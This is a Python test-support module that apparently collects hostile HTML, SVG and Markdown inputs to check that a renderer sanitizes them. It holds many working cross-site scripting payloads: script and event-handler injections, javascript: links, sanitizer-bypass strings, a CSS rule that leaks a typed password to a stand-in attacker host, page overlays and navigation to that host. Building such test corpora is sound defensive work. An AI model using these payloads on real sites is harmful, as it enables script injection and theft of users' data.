"""HTML, SVG and Markdown that would act: run a script, fetch, navigate, cover the page, forge.

Each sets `owned`, in the frame or above it, or fetches from the attacker's host, if it gets
through.
"""

from __future__ import annotations

from tests.support.hostile.host import EVIL

ACT = "window.owned=1;top.owned=1"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
_IMG = f"<img src=x onerror='{ACT}'>"
_PAGE = f"<script>{ACT}</script>"

SCRIPTS: dict[str, str] = {
    "a script": _PAGE,
    "a module": f"<script type=module>{ACT}</script>",
    "a script by address": f"<script src='{EVIL}/script.js'></script>",
    "an import map": f'<script type=importmap>{{"imports":{{"a":"{EVIL}/a.js"}}}}</script>',
    "a script in capitals, unclosed": f"<SCRIPT/x>{ACT}//",
    "a script in a comment that ends early": f"<!--><script>{ACT}</script>-->",
    "a script after a null": f"<\0script>{ACT}</script><scr\0ipt>{ACT}</script>",
    "a script in CDATA": f"{_SVG}<![CDATA[</svg>]]>{_PAGE}</svg>",
    "a script in SVG": f"{_SVG}<script>{ACT}</script></svg>",
    "a script of SVG by data": f"{_SVG}<script href='data:text/javascript,{ACT}'/></svg>",
    "a page within SVG": f"{_SVG}<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{_PAGE}"
    f"{_IMG}</body></foreignObject></svg>",
    "markup within MathML": f"<math><annotation-xml encoding='text/html'>{_IMG}</annotation-xml>"
    f"<mtext>{_IMG}<mglyph><style><!--</style><img title='--&gt;{_IMG}'></mglyph></math>",
    "MathML that is read twice": "<math><mtext><table><mglyph><style><!--</style><img title="
    f"'--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
    "SVG that is read twice": f"<svg></p><style><a id='</style>{_IMG}'>",
    "a form that is read twice": f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    "a noscript": f"<noscript><p title='</noscript>{_IMG}'></noscript>",
    "a template": f"<template>{_PAGE}</template><template shadowrootmode=open>{_PAGE}</template>",
    "text that ends": f"<textarea></textarea>{_IMG}<xmp></xmp>{_IMG}<title></title>{_IMG}",
    "an instruction": f"<?xml-stylesheet href='{EVIL}/style.xsl' type='text/xsl'?>{_PAGE}",
    "one of all kinds": f"javascript:/*--></title></style></textarea></script></xmp>{_IMG}"
    f"<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{ACT}//'>",
    "another encoding": "<meta charset=utf-7>+ADw-script+AD4-window.owned+AD0-1+ADw-/script+AD4-",
}

HANDLERS: dict[str, str] = {
    name: f"<{element} on{event}='{ACT}'{rest}>"
    for name, element, event, rest in (
        ("a picture that fails", "img", "error", " src=x"),
        (
            "a picture that loads",
            "img",
            "load",
            " src='data:image/gif;base64,R0lGODlhAQABAAAAACw='",
        ),
        ("a body", "body", "load", ""),
        ("a focus", "input", "focus", " autofocus"),
        ("a detail that opens", "details", "toggle", " open"),
        ("a video that fails", "video", "error", " src=x"),
        ("a source that fails", "video><source", "error", " src=x"),
        ("a marquee", "marquee", "start", ""),
        (
            "an animation",
            "style>@keyframes x{}</style><p",
            "animationstart",
            " style='animation:x'",
        ),
        ("a pointer", "div", "pointerrawupdate", " style='position:fixed;inset:0'"),
        (
            "a visible part",
            "p",
            "contentvisibilityautostatechange",
            " style='content-visibility:auto'",
        ),
        ("a popover", "button popovertarget=x>a</button><p id=x popover", "beforetoggle", ""),
        ("an element of its own", "x-y tabindex=1", "click", ""),
    )
} | {
    "an SVG that loads": f"<svg onload='{ACT}'><animate onbegin='{ACT}' attributeName=x dur=1s>",
    "an attribute that is set": f"{_SVG}<rect><set attributeName=onmouseover to='{ACT}'/>"
    f"</rect></svg>",
}

LINKS: dict[str, str] = {
    f"link {n}": f'<a href="{href}">a</a>{_SVG}<a xlink:href="{href}"><text>'
    f"a</text></a></svg>"
    f'<form action="{href}"><button formaction="{href}">b</button><input type=submit></form>'
    f'<map name=m><area href="{href}" shape=default></map><img usemap=#m>'
    for n, href in enumerate(
        (
            f"javascript:{ACT}",
            f"JaVaScRiPt:{ACT}",
            f"java\tscript:{ACT}",
            f"java&#10;script:{ACT}",
            f" \x01javascript:{ACT}",
            f"&#106;avascript&colon;{ACT}",
            f"javascript://x%0a{ACT}",
            f"vbscript:{ACT}",
            f"data:text/html,<script>{ACT}</script>",
            f"data:image/svg+xml,<svg onload='{ACT}'/>",
            "blob:null/1",
            "filesystem:x",
        )
    )
} | {
    "a link that is animated": f"{_SVG}<a><animate attributeName=href values='javascript:{ACT}'/>"
    "<text>a</text></a></svg>",
}

NAVIGATION: dict[str, str] = {
    "a refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "a policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "a base": f"<base href='{EVIL}/' target=_top><img src=base.png><a href=x>a</a>",
    "a form for the top": f"<form id=f target=_top action='{EVIL}/form' method=post><input "
    f"type=submit "
    "autofocus></form><button form=f>b</button><input type=image form=f src=x>",
    "a link for the top": f"<a target=_top href='{EVIL}/top'>a</a><a target=_parent href='#x'>"
    f"b</a>",
    "a ping": f"<a href='#x' ping='{EVIL}/ping'>a</a>",
    "a frame": f"<iframe src='{EVIL}/frame'></iframe><iframe srcdoc=\"{_PAGE}\"></iframe>"
    f"<iframe src=\"javascript:top.owned=1\"></iframe><frameset><frame src='{EVIL}/f'></frameset>",
    "an object": f"<object data='{EVIL}/object'></object><embed src='{EVIL}/embed'>"
    f"<object data=\"data:text/html,{_PAGE}\"></object><applet code=x archive='{EVIL}/a'></applet>",
    "a fenced frame": f"<fencedframe src='{EVIL}/fenced'></fencedframe><portal "
    f"src='{EVIL}/portal'>",
    "a download": f"<a download=x href='data:text/html,{ACT}'>a</a>",
}

FETCHES: dict[str, str] = {
    "pictures": f"<img src='{EVIL}/a.png'><img srcset='{EVIL}/b.png 1x'><input type=image "
    f"src='{EVIL}/c.png'><picture><source srcset='{EVIL}/d.png'><img></picture>",
    "media": f"<video src='{EVIL}/a' poster='{EVIL}/b' autoplay></video><audio src='{EVIL}/c' "
    f"autoplay>"
    f"<track src='{EVIL}/d' default></audio><bgsound src='{EVIL}/e'>",
    "backgrounds": f"<table background='{EVIL}/a.png'><td background='{EVIL}/b.png'>",
    "links in the head": "".join(
        f"<link rel='{rel}' href='{EVIL}/{rel}' as=script>"
        for rel in ("stylesheet", "preload", "prefetch", "modulepreload", "icon", "manifest")
    ),
    "early connections": f"<link rel=dns-prefetch href='//evil.test'><link rel=preconnect "
    f"href='{EVIL}'>",
    "parts of SVG": f"{_SVG}<image href='{EVIL}/a.png'/><use href='{EVIL}/b.svg#x'/><feImage "
    f"href='{EVIL}/c.png'/><rect fill='url({EVIL}/d.svg#x)' filter='url({EVIL}/e.svg#x)'/></svg>",
    "a style": f"<style>@import '{EVIL}/a.css';@font-face{{font-family:x;src:url({EVIL}/b.woff)}}"
    f"*{{font-family:x;background:url({EVIL}/c.png);cursor:url({EVIL}/d.cur),auto}}</style>x",
    "a style that asks what is typed": "<input type=password value=secret><style>"
    + "".join(f"input[value^={one}]{{background:url({EVIL}/v?{one})}}" for one in "abcs")
    + f"</style><p style='list-style:url({EVIL}/l.png);display:list-item;"
    f"content:url({EVIL}/n.png)'>",
    "masks and shapes": f"<p style='mask:url({EVIL}/a.svg#m);shape-outside:url({EVIL}/b.png);"
    f"float:left;"
    f'border-image:url({EVIL}/c.png) 1;background:image-set("{EVIL}/d.png" 1x)\'>x</p>',
    "variables of a style": f"<style>"
    f":root{{--a:url({EVIL}/a.png)}}p{{background:var(--a)}}</style><p>x",
    "old styles": f"<p style='behavior:url({EVIL}/a.htc);width:expression({ACT})'>x</p>",
}

COVERS: dict[str, str] = {
    "a cover": "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:red'>"
    f"<a href='{EVIL}/cover'>Approve</a></div>",
    "a dialog": "<dialog open style='position:fixed;inset:0'>Your key: <input></dialog>",
    "names of the page": "<form id=parent name=top><input name=postMessage></form><img name=place>"
    "<a id=origin href='x:y'></a><a id=DOMPurify></a><img name=getElementById><p id=__proto__>",
    "names of our parts": "<p id=notebook data-testid=approve-once data-cell-id=x class=cell>"
    "Approve</p>",
    "a size without end": "<div style='height:99999999px;width:99999999px'>x</div>",
}

MARKUP: dict[str, str] = {**SCRIPTS, **HANDLERS, **LINKS, **NAVIGATION, **FETCHES, **COVERS}

MARKDOWN: dict[str, str] = {
    "links": "\n\n".join(
        f"[a]({href}) [b](<{href}>) <{href}> ![c]({href}) [d][{n}]\n\n[{n}]: {href}"
        for n, href in enumerate(
            (f"javascript:{ACT}", f"JAVASCRIPT:{ACT}", f"data:text/html,{_PAGE}", f"vbscript:{ACT}")
        )
    ),
    "titles": f'[a](x "\' onmouseover=\'{ACT}") ![a" onerror="{ACT}](x)',
    "pictures": f"![a]({EVIL}/a.png) ![b](//evil.test/b.png) [![c]({EVIL}/c.png)]({EVIL}/d)",
    "a fence": f'```html" onclick="{ACT}\n{_IMG}\n```\n\n~~~<img src=x onerror={ACT}>'
    f"\n{_PAGE}\n~~~",
    "a formula": f"$\\href{{javascript:{ACT}}}{{x}}$ $\\url{{javascript:{ACT}}}$ "
    f"$\\includegraphics{{{EVIL}/a.png}}$ $\\htmlStyle{{background:url({EVIL}/b.png)}}{{x}}$ "
    f"$\\htmlData{{x=y}}{{z}}$ $\\text{{{_IMG}}}$\n\n$${_IMG}$$",
    "autolinks": f"{EVIL}/auto www.evil.test <a@evil.test> <{EVIL}/x>",
    "a table": f"| {_IMG} | a |\n|---|:-:|\n| {_PAGE} | [x](javascript:{ACT}) |",
    "footnotes": f"a[^1]\n\n[^1]: {_IMG} [x](javascript:{ACT})",
    "a heading's address": f"# __proto__\n\n# {_IMG}\n\n# notebook\n\n[up](#notebook)",
    "an attachment": f"![a](attachment:../../x) ![b](attachment:javascript:{ACT}) "
    f"![c](attachment:)",
    "entities": f"&lt;img src=x onerror={ACT}&gt; &#60;script&#62;{ACT}&#60;/script&#62;",
    "tasks": f"- [x] {_IMG}\n- [ ] [a](javascript:{ACT})",
}
